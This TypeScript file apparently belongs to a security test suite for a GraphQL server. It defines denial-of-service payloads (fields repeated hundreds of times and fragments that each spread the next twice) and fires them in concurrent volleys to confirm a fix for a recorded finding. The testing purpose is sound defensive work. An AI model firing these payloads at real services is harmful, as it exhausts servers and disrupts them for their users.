import { type Attack, volley } from '../attack.ts';
import { operation } from '../caller.ts';
import { largestLetIn } from '../letIn.ts';

/**
 * Documents of a stranger that are dear to validate: eight hundred fields of one name, each pair of which is compared, each
 * document another one. A mend bounds documents by what validation takes, and counts before it parses.
 */
export const documents: Attack = {
  name: 'documents',
  finding: 'like security 4',
  prepare: async ({ stranger }) => {
    const somebody = stranger();
    return {
      fire: volley({ atOnce: 20, most: 1_000 }, (number) => {
        const fields = 'viewer { user { id name } } '.repeat(480);
        return somebody.send(operation(`query Q${number} { ${fields} }`));
      }),
    };
  },
};

/** As many fields of one name as are let in, in as many places, each document another one. */
export const documentsLetIn: Attack = {
  name: 'documents-let-in',
  finding: 'like security 4',
  prepare: async ({ stranger }) => {
    const somebody = stranger();
    const place = `{ user { ${'id name '.repeat(24)} } }`;
    const ask = (places: number, number: number) => {
      const fields = Array.from({ length: places }, (_, n) => `a${n}: viewer ${place}`);
      return somebody.send(operation(`query Q${number} { ${fields.join(' ')} }`));
    };
    const most = await largestLetIn([30, 29, 25, 20, 15, 10, 5], (size) => ask(size, 0));
    return { fire: volley({ atOnce: 20, most: 1_000 }, (number) => ask(most, number + 1)) };
  },
};

/** Fragments that spread one another, each two ways, 120 deep. */
export const fragments: Attack = {
  name: 'fragments',
  finding: 'like security 4',
  prepare: async ({ stranger }) => {
    const somebody = stranger();
    return { fire: volley({ atOnce: 20, most: 1_000 }, (number) => somebody.send(spread(120, number))) };
  },
};

/** As many of them as are let in. */
export const fragmentsLetIn: Attack = {
  name: 'fragments-let-in',
  finding: 'like security 4',
  prepare: async ({ stranger }) => {
    const somebody = stranger();
    const most = await largestLetIn([40, 39, 38, 30, 20, 12, 8, 4], (size) => somebody.send(spread(size, 0)));
    return { fire: volley({ atOnce: 20, most: 1_000 }, (number) => somebody.send(spread(most, number + 1))) };
  },
};

function spread(depth: number, number: number) {
  const chain = Array.from(
    { length: depth - 1 },
    (_, n) => `fragment F${n} on Query { ...F${n + 1} ...F${n + 1} }`,
  );
  const end = `fragment F${depth - 1} on Query { viewer { user { id } } }`;
  return operation(`query Q${number} { ...F0 ...F0 } ${chain.join(' ')} ${end}`);
}
